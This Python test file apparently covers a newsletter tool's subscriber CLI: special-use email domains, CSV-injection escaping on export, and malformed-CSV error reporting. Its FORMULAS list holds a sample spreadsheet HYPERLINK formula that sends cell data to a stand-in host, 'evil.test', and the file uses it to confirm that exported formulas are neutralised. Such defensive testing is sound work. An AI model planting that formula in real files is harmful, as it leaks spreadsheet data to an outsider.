"""`syndicate subscribers ...` through the real CLI on real SQLite files: special-use
domains, CSV formulas (OWASP's CSV-injection rule) and broken CSV quoting."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from syndicate.newsletter.subscribers import escape_cell, unescape_cell

from .conftest import SITE_CONFIG, Result, Site

SPECIAL = ["ops@intranet.local", "qa@localhost", "Stage@Mail.Test", "dev@router.home.arpa"]


def test_special_use_domains_are_refused_unless_allowed(
    site: Site, invoke: Callable[..., Result], tmp_path: Path
) -> None:
    csv_file = tmp_path / "staff.csv"
    csv_file.write_text("email,name\n" + "".join(f"{a},x\n" for a in SPECIAL), "utf-8")
    for address in SPECIAL:
        refused = invoke("subscribers", "add", address, "--config", site.config)
        assert refused.exit_code == 2, refused.stderr
        assert "subscribers.allow_special_domains" in refused.stderr
    refused_import = invoke("subscribers", "import", csv_file, "--config", site.config)
    assert refused_import.exit_code == 1
    assert refused_import.stderr.count("error: invalid address") == len(SPECIAL)
    assert refused_import.stderr.count("allow_special_domains: true") == len(SPECIAL)

    site.set_config(SITE_CONFIG + "subscribers:\n  allow_special_domains: true\n")
    for address in SPECIAL[:2]:
        added = invoke("subscribers", "add", address, "--config", site.config)
        assert added.exit_code == 0, added.stderr
    imported = invoke("subscribers", "import", csv_file, "--config", site.config)
    assert imported.exit_code == 0, imported.stderr
    assert imported.stdout.startswith("2 added, 2 updated")
    listed = invoke("subscribers", "list", "--config", site.config).stdout
    assert [line.split("\t")[0] for line in listed.splitlines()] == [
        "dev@router.home.arpa",
        "ops@intranet.local",
        "qa@localhost",
        "Stage@mail.test",  # the domain is normalised as for any address
    ]
    # Still refused: .invalid never receives mail, .onion is not reached over SMTP, and
    # the rest of an address is checked as before.
    for bad in ("a@x.invalid", "a@hidden.onion", "a b@x.test", "a@x..local"):
        assert invoke("subscribers", "add", bad, "--config", site.config).exit_code == 2, bad


FORMULAS = [
    '=HYPERLINK("https://evil.test/?leak="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
    "''+two quotes",
    "plain 'quote",
]


@pytest.mark.slow
def test_export_neutralises_formulas_and_import_round_trips_them(
    site: Site, invoke: Callable[..., Result], tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    rows = [(f"r{n}@example.org", name) for n, name in enumerate(FORMULAS)]
    rows.append(("=x@example.org", "Equals Local Part"))  # a valid address can start with =
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["email", "name", "topics"])
    for address, name in rows:
        writer.writerow([escape_cell(address), escape_cell(name), escape_cell("-neg, +pos")])
    source.write_text(out.getvalue(), "utf-8")
    first = invoke("subscribers", "import", source, "--config", site.config)
    assert first.exit_code == 0, first.stderr

    exported = invoke("subscribers", "export", "-", "--config", site.config).stdout
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous  # nothing a spreadsheet would evaluate
    assert '\'=HYPERLINK("https://evil.test/?leak="&A2,"Click")' in cells

    listed = invoke("subscribers", "list", "--config", site.config).stdout
    names = {line.split("\t")[0]: line.split("\t")[2] for line in listed.splitlines()}
    assert names == dict(rows)  # stored as typed
    assert all(line.split("\t")[3] == "-neg, +pos" for line in listed.splitlines())

    again = tmp_path / "again.csv"
    again.write_text(exported, "utf-8")
    second = invoke("subscribers", "import", again, "--config", site.config)
    assert second.exit_code == 0 and second.stdout.startswith("0 added, 0 updated")
    assert invoke("subscribers", "export", "-", "--config", site.config).stdout == exported


def test_escape_cell_round_trips_every_prefix() -> None:
    for value in (*FORMULAS, "", "'", "''", "'x", "\tTab", "\rCR", "a=b", "="):
        assert unescape_cell(escape_cell(value)) == value, value


def test_an_unterminated_quote_is_reported_where_it_starts_and_the_rest_still_goes_in(
    site: Site, invoke: Callable[..., Result], tmp_path: Path
) -> None:
    csv_file = tmp_path / "broken.csv"
    csv_file.write_text(
        "email,name\n"
        'ok1@example.org,"A name\n'  # line 2: never closed
        "swallowed@example.org,B\n"
        "ok3@example.org,C\n",
        "utf-8",
    )
    result = invoke("subscribers", "import", csv_file, "--config", site.config)
    assert result.exit_code == 1
    assert f"{csv_file}:2: error: unterminated quote" in result.stderr
    listed = invoke("subscribers", "list", "--config", site.config).stdout
    assert "swallowed@example.org" in listed and "ok3@example.org" in listed
    assert "ok1@example.org" not in listed


def test_errors_in_multi_line_records_name_the_line_where_the_record_starts(
    site: Site, invoke: Callable[..., Result], tmp_path: Path
) -> None:
    csv_file = tmp_path / "multi.csv"
    csv_file.write_text(
        "email,name,status\n"
        'good@example.org,"Two\nlines",active\n'  # lines 2-3: fine, the name is folded
        'not-an-address,"Three\nline\nname",active\n'  # lines 4-6
        'bad@example.org,"x",active\n'  # line 7
        'worse@example.org,"Bo"b,active\n'  # line 8: a stray quote
        'last@example.org,"z",nonsense\n',  # line 9
        "utf-8",
    )
    result = invoke("subscribers", "import", csv_file, "--config", site.config)
    assert result.exit_code == 1
    lines = [line.split(": error:")[0] for line in result.stderr.splitlines() if "error:" in line]
    assert lines == [f"{csv_file}:4", f"{csv_file}:8", f"{csv_file}:9"], result.stderr
    listed = invoke("subscribers", "list", "--config", site.config).stdout
    assert "good@example.org\tactive\tTwo lines" in listed
    assert "bad@example.org" in listed


def test_a_row_with_more_cells_than_the_header_is_refused_not_shifted(
    site: Site, invoke: Callable[..., Result], tmp_path: Path
) -> None:
    """An unquoted comma in a name (`Smith, John`) makes one cell two: every cell after it
    would land in the wrong column (John as a topic) with exit 0. Such a row is an error;
    empty trailing cells (spreadsheets add them) are fine. A header naming a column twice
    is an error too, rather than one of the two values silently winning."""
    csv_file = tmp_path / "shifted.csv"
    csv_file.write_text(
        "email,name,topics,status\n"
        "smith@example.org,Smith, John,,active\n"  # line 2: five cells
        "trailing@example.org,T,,active,,,\n"  # line 3: empty extra cells only
        "ok@example.org,Ok,,active\n",
        "utf-8",
    )
    result = invoke("subscribers", "import", csv_file, "--config", site.config)
    assert result.exit_code == 1
    assert result.stderr.startswith(
        f"{csv_file}:2: error: 5 cells but the header has 4: a cell that holds a comma must "
        'be quoted ("Smith, Ann")'
    ), result.stderr
    listed = invoke("subscribers", "list", "--config", site.config).stdout
    assert "smith@example.org" not in listed
    assert "trailing@example.org" in listed and "ok@example.org" in listed

    twice = tmp_path / "twice.csv"
    twice.write_text("email,name,email\na@example.org,A,b@example.org\n", "utf-8")
    result = invoke("subscribers", "import", twice, "--config", site.config)
    assert result.exit_code == 1
    assert f"{twice}:1: error: column 'email' appears twice in the header" in result.stderr
    assert "b@example.org" not in invoke("subscribers", "list", "--config", site.config).stdout
